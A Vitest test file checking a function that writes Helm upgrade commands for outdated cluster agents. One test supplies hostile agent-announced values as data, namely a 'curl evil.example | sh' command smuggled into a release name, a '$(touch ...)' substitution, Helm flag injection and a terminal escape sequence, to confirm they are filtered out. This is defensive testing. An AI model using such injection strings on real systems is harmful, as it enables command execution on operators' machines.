import { describe, expect, it } from 'vitest';
import { upgradeLines } from './upgrade-lines.ts';

const options = { cluster: 'edge', chart: 'charts/flotilla-agent' };
const release = { name: 'edge-agent', namespace: 'flotilla-agent' };
const outdated = { version: '0.1.0', upgradeAvailable: '0.2.0' };

describe('the commands that upgrade the agents of a cluster', () => {
  it('are one helm command for all agents of a release', () => {
    const agents = [
      { name: 'a', ...outdated, release },
      { name: 'b', ...outdated, release },
      { name: 'c', version: '0.2.0', release: { ...release, name: 'current' } },
    ];
    expect(upgradeLines({ status: { agents } }, options).join('\n')).toBe(
      [
        'Run with a kubeconfig of the cluster:',
        '',
        '  helm upgrade edge-agent charts/flotilla-agent --namespace flotilla-agent \\',
        '    --reset-then-reuse-values --set image.tag=0.2.0',
        '',
      ].join('\n'),
    );
  });

  it('name the machine of an agent that was not installed with Helm', () => {
    const agents = [{ name: 'a', hostname: 'edge-1', ...outdated }];
    expect(upgradeLines({ status: { agents } }, options)).toEqual([
      'The agent a on edge-1 was not installed with Helm: replace version 0.1.0 with 0.2.0 there, and restart it with the same data directory.',
    ]);
  });

  it('contain no text that a hostile agent has announced', () => {
    const agents = [
      { name: 'a', ...outdated, release: { name: 'x; curl evil.example | sh #', namespace: 'n' } },
      { name: 'b', ...outdated, release: { name: 'x', namespace: '$(touch /tmp/owned)' } },
      { name: 'c', ...outdated, release: { name: '--post-renderer=evil', namespace: 'n' } },
      { name: 'e', version: '0.1.0', upgradeAvailable: '9,image.repository=evil/agent', release },
      { name: 'd', ...outdated, hostname: 'h\u001b]52;c;ZXZpbA==\u0007\nhelm uninstall x' },
    ];
    const text = upgradeLines({ status: { agents } }, options).join('\n');
    expect(text).not.toMatch(/curl|touch|post-renderer|image\.repository|^helm/m);
    expect(text).not.toContain('\u001b');
    expect(text).toContain('The agent a has announced an invalid Helm release');
    expect(text).toContain('The agent d ');
  });

  it('are not needed without an agent, or if all agents are current', () => {
    expect(upgradeLines({}, options)).toEqual(['cluster "edge" has no agent']);
    const agents = [{ name: 'a', version: '0.2.0', release }];
    expect(upgradeLines({ status: { agents } }, options)[0]).toContain('have the version of the server');
  });
});
